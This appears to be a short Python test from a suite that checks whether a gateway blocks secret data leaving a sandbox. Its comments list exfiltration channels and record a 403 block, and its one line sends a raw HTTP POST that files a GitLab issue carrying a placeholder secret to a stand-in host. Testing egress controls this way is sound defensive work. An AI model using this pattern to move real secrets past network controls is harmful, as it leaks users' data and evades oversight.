# line: secret in URL, header, body, DNS label
# control: 200
# inside: 403 gateway/path
# seen: http allowed POST /gitlab/api/v4/projects/1/issues
# journal: gateway/path
from attempt import send, verdict

result = verdict(send("POST /gitlab/api/v4/projects/1/issues HTTP/1.1\r\nHost: gitlab.example\r\nContent-Type: application/json\r\nContent-Length: 26\r\n\r\n{\"title\":\"made-up-secret\"}"))
